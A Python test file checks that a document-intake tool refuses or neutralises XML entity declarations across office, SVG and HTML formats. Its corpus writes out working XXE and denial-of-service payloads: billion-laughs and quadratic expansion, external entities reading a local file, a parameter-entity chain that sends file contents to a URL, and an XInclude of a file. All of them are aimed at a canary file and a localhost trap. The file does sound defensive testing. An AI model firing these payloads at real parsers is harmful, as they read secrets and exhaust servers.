"""XML that declares entities, in every format that is written in it: nothing is followed, fetched or blown up."""

import io
import socket
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from accounted.case.apart.working import Job, carried_out
from accounted.case.opening import Opening
from accounted.errors import CannotOpen
from accounted.intake.office.xml import elements
from accounted.model import Original, digest_of
from tests.bombs import SHEET, sheet_of, xlsx_of
from tests.documents import W, docx, ods, odt, paragraph, zipped

KILLED = "12 people were killed in Lund."


def laughs(levels: int = 9) -> tuple[str, str]:
    """Entities of entities, a billion of them."""
    rest = "".join(f'<!ENTITY a{it} "{f"&a{it - 1};" * 10}">' for it in range(1, levels + 1))
    return f'<!DOCTYPE x [<!ENTITY a0 "laugh">{rest}]>', f"&a{levels};"


def corpus(secret: Path, port: int) -> dict[str, tuple[str, str]]:
    """Declarations by name, each with what calls it up."""
    web = f"http://127.0.0.1:{port}/x"
    return {
        "a billion laughs": laughs(),
        "a quadratic one": (f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 50_000),
        "a file": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}">]>', "&a;"),
        "a file by its path": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{secret}">]>', "&a;"),
        "an address": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{web}">]>', "&a;"),
        "a public one": (f'<!DOCTYPE x [<!ENTITY a PUBLIC "-//A//B" "{web}">]>', "&a;"),
        "a document type elsewhere": (f'<!DOCTYPE x SYSTEM "{web}">', ""),
        "a parameter entity": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{web}"> %p;]>', ""),
        "a parameter entity of a file": (
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{secret}">'
            f"<!ENTITY % e \"<!ENTITY s SYSTEM '{web}?%f;'>\"> %e;]>",
            "&s;",
        ),
        "itself": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "far behind the beginning": (f"<!--{'x' * 9000}--><!DOCTYPE x [<!ENTITY a SYSTEM 'file://{secret}'>]>", "&a;"),
        "an inclusion": (
            "",
            f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>',
        ),
    }


FORMS: dict[str, Callable[[bytes], bytes]] = {
    "a.docx": lambda xml: _with(docx(paragraph(KILLED)), "word/document.xml", xml),
    "comments.docx": lambda xml: _with(docx(paragraph(KILLED)), "word/comments.xml", xml),
    "a.odt": lambda xml: _with(odt(f"<text:p>{KILLED}</text:p>"), "content.xml", xml),
    "a.ods": lambda xml: _with(ods({"T": [["Killed", "Lund"], ["12", "a"]]}), "content.xml", xml),
    "a.xlsx": xlsx_of,
    "shared.xlsx": lambda xml: xlsx_of(sheet_of('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), xml),
    "a.svg": lambda xml: xml,
    "a.xml": lambda xml: xml,
    "a.html": lambda xml: xml,
}
"""How a piece of XML comes into a file of each format."""


def _with(content: bytes, part: str, xml: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**parts, part: xml}, ["mimetype"] if "mimetype" in parts else [])


def _body(form: str, call: str) -> str:
    """The XML of a part that calls an entity up in its text."""
    if form.endswith("docx"):
        tag = "document" if form == "a.docx" else "comments"
        return f"<w:{tag} {W}><w:body><w:p><w:r><w:t>{KILLED}{call}</w:t></w:r></w:p></w:body></w:{tag}>"
    if form == "shared.xlsx":
        return f'<sst xmlns="{SHEET}"><si><t>{KILLED}{call}</t></si></sst>'
    if form == "a.xlsx":
        return sheet_of(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{KILLED}{call}</t></is></c></row>')
    if form in ("a.svg", "a.xml", "a.html"):
        return f"<{form[2:]}><text>{KILLED}{call}</text></{form[2:]}>"
    names = " ".join(
        f'xmlns:{it}="urn:oasis:names:tc:opendocument:xmlns:{it}:1.0"' for it in ("office", "text", "table")
    )
    inside = {"a.odt": f"<office:text><text:p>{KILLED}{call}</text:p></office:text>"}.get(form) or (
        '<office:spreadsheet><table:table table:name="T"><table:table-row><table:table-cell office:value-type="string">'
        f"<text:p>{KILLED}{call}</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
    )
    return f"<office:document-content {names}><office:body>{inside}</office:body></office:document-content>"


def _opened(content: bytes, name: str) -> Opening:
    return carried_out(Job(Original(digest_of(content), len(content)), lambda: content, name, {}, False))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("form", sorted(FORMS))
def test_no_entity_reads_a_file_opens_a_socket_or_blows_up(form: str, encoding: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("CANARY")
    with socket.socket() as trap:
        trap.bind(("127.0.0.1", 0))
        trap.listen()
        trap.setblocking(False)
        for name, (declared, call) in corpus(secret, trap.getsockname()[1]).items():
            xml = f'<?xml version="1.0" encoding="{encoding}"?>{declared}{_body(form, call)}'.encode(encoding)
            opening = _opened(FORMS[form](xml), form)
            written = f"{opening.text} {opening.document.to_dict()} {opening.why}"
            assert "CANARY" not in written, (form, name)
            assert len(opening.text) < 300_000, (form, name)
            assert opening.text or opening.why, (form, name)
            assert "fault in Accounted" not in (opening.why or ""), (form, name)
            with pytest.raises(BlockingIOError):
                trap.accept()


@pytest.mark.parametrize("form", ["a.docx", "a.odt"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_words_that_stand_in_an_entity_are_not_left_out_in_silence(form: str, encoding: str) -> None:
    declared = '<!DOCTYPE x [<!ENTITY a "and 40 were injured">]>'
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{declared}{_body(form, "&a;")}'.encode(encoding)
    assert "declares entities" in (_opened(FORMS[form](xml), form).why or "")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("wanted", ["table", "nothing-of-this-name"])
def test_a_part_read_element_by_element_that_declares_entities_is_refused(encoding: str, wanted: str) -> None:
    xml = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a "12">]><x><table>&a;</table></x>'
    with pytest.raises(CannotOpen, match="declares entities"):
        list(elements(xml.encode(encoding), "a.ods", "content.xml", wanted))
